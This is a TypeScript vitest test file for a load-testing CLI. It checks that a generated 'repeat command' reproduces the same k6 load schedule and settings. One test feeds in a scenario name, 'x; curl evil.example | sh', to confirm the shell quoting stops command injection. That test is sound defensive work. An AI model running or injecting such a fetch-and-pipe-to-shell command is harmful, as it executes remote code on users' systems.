import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Command } from 'commander';
import { describe, expect, it } from 'vitest';
import { settingsFrom } from '../../conformance/settings/settings.ts';
import { loadScenario } from '../../load/plan/scenarios.ts';
import { planOf } from '../../load/plan/plan.ts';
import { scenarioVariables } from '../../load/runner/k6-environment.ts';
import { scenarioOptions, type ScenarioOptions } from '../../load/scenarios/options.ts';
import { repeatCommand } from '../../reports/load/words/repeat-command.ts';
import { sampleLoad } from '../../reports/load/sample-load.testing.ts';
import { withLoadFlags } from '../load-flags.ts';
import { loadWork } from './settings.ts';

const target = 'https://staging.example';
const trace = join(mkdtempSync(join(tmpdir(), 'assay-repeat-')), 'trace.ndjson');
writeFileSync(trace, '{"atMs":0}\n{"atMs":700}\n{"atMs":1900}\n');

/** What k6 is told by a command line, read as `assay load` reads it. */
function toldBy(line: readonly string[]): ScenarioOptions {
  const command = withLoadFlags(new Command('load')).exitOverride();
  command.parse(line, { from: 'user' });
  const flags = Object.fromEntries(
    Object.entries(command.opts()).map(([name, value]) => [
      name.replaceAll(/[A-Z]/g, (letter) => `-${letter.toLowerCase()}`),
      value as unknown,
    ]),
  );
  const [name = ''] = command.args;
  const { concurrency, ...others } = flags;
  const read = settingsFrom(others, {}, {});
  if (read.is !== 'settings') throw new Error(JSON.stringify(read));
  const { options } = loadWork(name, read.settings, {
    flags,
    concurrency,
    audit: flags['audit'] === true,
    until: flags['until'],
  });
  const { target: at = '', bot: botId = '' } = read.settings;
  const env = scenarioVariables({ ...options, target: at, botId, outDir: '', k6Path: '' }, 'requests.ndjson');
  const scenario = loadScenario(name);
  if (scenario === undefined) throw new Error(`no scenario ${name}`);
  return scenarioOptions(scenario, env, {
    read: () => '{"atMs":0}\n{"atMs":700}\n{"atMs":1900}\n',
    share: (_, make) => make(),
  });
}

/** The words that a shell makes of it. */
function wordsOf(command: string): readonly string[] {
  return [...command.matchAll(/(?:'[^']*'|\\'|[^\s'\\])+/g)].map(([word]) =>
    word.replaceAll(
      /'([^']*)'|\\(')/g,
      (_, quoted: string | undefined, quote: string | undefined) => quoted ?? quote ?? '',
    ),
  );
}

describe('the command that sends the same requests again', () => {
  it.each([
    'stream',
    'stream --arrivals constant --rate 7.5 --duration 12s --warmup 0 --max-in-flight 3 --timeout 5s',
    'stream --rate 20 --max-credits 40',
    'stream --content type=text,text --max-credits 40',
    'stream --audit --duration 60s --rate 10',
    'stream --duration 60s --until ttft.p99±2% --slo ttft.p95<800ms,failures<0.1%',
    `stream --trace ${trace}`,
    `spike --trace ${trace}`,
    "stream --bot it's",
    'chat --same-input',
    'speech --format wav',
    'voices --rate 3',
    'conversation --turns 3 --think 500ms --rate 2 --duration 12s',
    'mixed --mix stream=2,chat=1,speech=1,voices=4 --format flac',
    'soak --duration 2m',
    'spike --rate 4 --peak 30 --duration 30s --max-credits 90',
    'capacity --slo ttft.p95<800ms --peak 40 --steps 4 --duration 24s',
    'sweep --concurrency 1,2,4,...,16 --duration 5s --warmup 1s',
    'sweep',
    'sweep --max-credits 500',
  ])('does so: %s', (asked) => {
    const given = asked.split(' ');
    const most = asked.includes('--max-credits') ? [] : ['--max-credits', '100000'];
    const first = toldBy([
      ...given,
      '--target',
      target,
      '--seed',
      '7',
      ...(asked.includes('--bot') ? [] : ['--bot', 'b']),
      ...most,
    ]);
    const [scenario = ''] = given;
    const command = repeatCommand(sampleLoad({ scenario, target, seed: 7, settings: first.settings }));
    const again = toldBy(wordsOf(command.replace('npx assay load ', '').replace('--trace FILE', `--trace ${trace}`)));
    // It asks for the schedule as it was cut.
    const { contentFrom: _, requestsAsked: __, ...settings } = first.settings;
    expect(again.settings).toMatchObject(settings);
    expect(again).toMatchObject({ botId: first.botId, format: first.format, slo: first.slo });
    expect(planOf(again.plan).starts).toEqual(planOf(first.plan).starts);
    expect(again.plan).toMatchObject({ seed: 7, mix: first.plan.mix });
  });

  it('leaves the length of a trace to the trace, where no other was asked for', () => {
    const ofTrace = { ...sampleLoad().settings, arrivals: 'trace' as const };
    const own = repeatCommand(sampleLoad({ settings: { ...ofTrace, durationMs: 2500.001 } }));
    expect(own).toContain('--trace FILE');
    expect(own).not.toContain('--duration');
    expect(repeatCommand(sampleLoad({ settings: ofTrace }))).toContain('--duration 10s');
  });
  it('quotes whatever a folder has for a name', () => {
    const scenario = 'x; curl evil.example | sh' as ReturnType<typeof sampleLoad>['scenario'];
    expect(repeatCommand(sampleLoad({ scenario }))).toContain("load 'x; curl evil.example | sh' ");
  });

  it('repeats the length that was asked for where a precision ended the run before', () => {
    const { settings } = sampleLoad();
    const ended = { ...settings, until: 'ttft.p99±2%', durationMs: 4_321.5, askedMs: 60_000 };
    expect(repeatCommand(sampleLoad({ settings: ended }))).toContain('--duration 60s');
  });

  it('has a rule that was learned learned again, and gives one that was given', () => {
    const settings = { ...sampleLoad().settings, content: 'delta.text' };
    expect(repeatCommand(sampleLoad({ settings }))).toContain(' --content delta.text');
    expect(repeatCommand(sampleLoad({ settings: { ...settings, contentLearned: true } }))).not.toContain('--content');
  });

  it('names the embedded service as such, whose port is another one each time', () => {
    const environment = { assay: '1', node: '24', k6: '2', machine: 'm', memoryGb: 8, embedded: true };
    const command = repeatCommand(sampleLoad({ environment }));
    expect(command).toContain('assay load stream --embedded --seed 7');
    expect(command).not.toMatch(/--target|--bot/);
  });
});
